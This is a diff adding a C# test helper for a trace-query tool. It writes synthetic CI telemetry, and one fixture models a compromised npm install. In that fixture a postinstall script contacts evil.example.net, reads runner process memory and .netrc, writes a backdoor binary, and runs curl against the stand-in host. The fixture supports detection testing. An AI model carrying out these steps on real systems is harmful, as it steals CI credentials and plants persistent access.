@@ -1,0 +1,93 @@
+using System.IO.Compression;
+using System.Text;
+
+namespace Ashiato.Query.Tests;
+
+/// <summary>Writes trace files in the contract's format into a private temporary folder.</summary>
+public sealed class TestTrace : IDisposable
+{
+    public TestTrace()
+    {
+        Directory = System.IO.Directory.CreateTempSubdirectory("ashiato-query-test-").FullName;
+    }
+
+    public string Directory { get; }
+
+    public string PathOf(string name) => Path.Combine(Directory, name);
+
+    public string WriteJsonl(string name, IEnumerable<string> lines)
+    {
+        var path = PathOf(name);
+        File.WriteAllText(path, string.Concat(lines.Select(l => l + "\n")));
+        return path;
+    }
+
+    /// <summary>Writes a gzip file of several members (as the tracer's periodic flushes do), optionally cut short.</summary>
+    public string WriteGzip(string name, IReadOnlyList<string> lines, int members = 3, int cutBytes = 0)
+    {
+        var path = PathOf(name);
+        using (var file = File.Create(path))
+        {
+            var perMember = Math.Max(1, (lines.Count + members - 1) / members);
+            foreach (var chunk in lines.Chunk(perMember))
+            {
+                using var gzip = new GZipStream(file, CompressionLevel.Fastest, leaveOpen: true);
+                gzip.Write(Encoding.UTF8.GetBytes(string.Concat(chunk.Select(l => l + "\n"))));
+            }
+            file.SetLength(file.Length - cutBytes);
+        }
+        return path;
+    }
+
+    public void Dispose() => System.IO.Directory.Delete(Directory, recursive: true);
+
+    public static string Timestamp(int second, int micros = 0) => $"2026-11-27T15:{second / 60 % 60:D2}:{second % 60:D2}.{micros:D6}Z";
+
+    public static string Exec(int second, int pid, string filename, string[] args, int ppid = 1) =>
+        $$"""{"type":"process_exec","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"ppid":{{ppid}},"comm":"{{Path.GetFileName(filename)}}","filename":"{{filename}}","args":[{{string.Join(",", args.Select(a => $"\"{a}\""))}}]}""";
+
+    public static string Open(int second, int pid, string path, string flags = "O_RDONLY", string comm = "cat") =>
+        $$"""{"type":"file_open","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{path}}","flags":"{{flags}}"}""";
+
+    public static string Connect(int second, int pid, string addr, int port, string comm = "node", string? hostname = null) =>
+        $$"""{"type":"net_connect","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","dst_addr":"{{addr}}","dst_port":{{port}},"protocol":"tcp"{{(hostname is null ? "" : $",\"hostname\":\"{hostname}\"")}}}""";
+
+    public static string Dns(int second, int pid, string hostname, string comm = "node") =>
+        $$"""{"type":"dns_query","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","hostname":"{{hostname}}"}""";
+
+    public static string Write(int second, int pid, string path, long bytes, string comm = "node") =>
+        $$"""{"type":"file_write","timestamp":"{{Timestamp(second)}}","pid":{{pid}},"comm":"{{comm}}","path":"{{path}}","bytes":{{bytes}}}""";
+
+    /// <summary>A small CI job: Runner.Worker, an npm install whose postinstall script phones home, curl, a .netrc read.</summary>
+    public static IReadOnlyList<string> CompromisedJob() =>
+    [
+        Exec(1, 1200, "/home/runner/actions-runner/bin/Runner.Worker", ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient", "107", "110"]),
+        Exec(2, 1234, "/usr/bin/npm", ["npm", "install"], ppid: 1200),
+        Dns(3, 1234, "registry.example.org", comm: "npm"),
+        Connect(3, 1234, "104.16.23.35", 443, comm: "npm", hostname: "registry.example.org"),
+        Open(4, 1234, "/home/runner/work/app/package.json", comm: "npm"),
+        Exec(5, 1235, "/bin/sh", ["sh", "-c", "node postinstall.js"], ppid: 1234),
+        Exec(6, 1236, "/usr/bin/node", ["node", "postinstall.js"], ppid: 1235),
+        Dns(7, 1236, "evil.example.net"),
+        Connect(7, 1236, "203.0.113.7", 443, hostname: "evil.example.net"),
+        Open(8, 1236, "/proc/1200/maps"),
+        Open(8, 1236, "/proc/1200/mem"),
+        Open(9, 1236, "/proc/self/maps"),
+        Open(9, 1236, "/proc/999/mem"),
+        Open(10, 1236, "/home/runner/.netrc"),
+        Write(11, 1234, "/home/runner/work/app/node_modules/.package-lock.json", 2048),
+        Write(12, 1236, "/usr/local/bin/backdoor", 4096),
+        Exec(13, 1240, "/usr/bin/curl", ["curl", "-sS", "https://evil.example.net/x"], ppid: 1200),
+        Connect(14, 1300, "10.0.0.5", 22, comm: "ssh"),
+    ];
+
+    /// <summary>A normal run of the same job: only the registry.</summary>
+    public static IReadOnlyList<string> NormalJob() =>
+    [
+        Exec(1, 2200, "/home/runner/actions-runner/bin/Runner.Worker", ["/home/runner/actions-runner/bin/Runner.Worker", "spawnclient"]),
+        Exec(2, 2234, "/usr/bin/npm", ["npm", "install"], ppid: 2200),
+        Dns(3, 2234, "registry.example.org", comm: "npm"),
+        Connect(3, 2234, "104.16.23.35", 443, comm: "npm", hostname: "registry.example.org"),
+        Connect(14, 2300, "10.0.0.5", 22, comm: "ssh"),
+    ];
+}
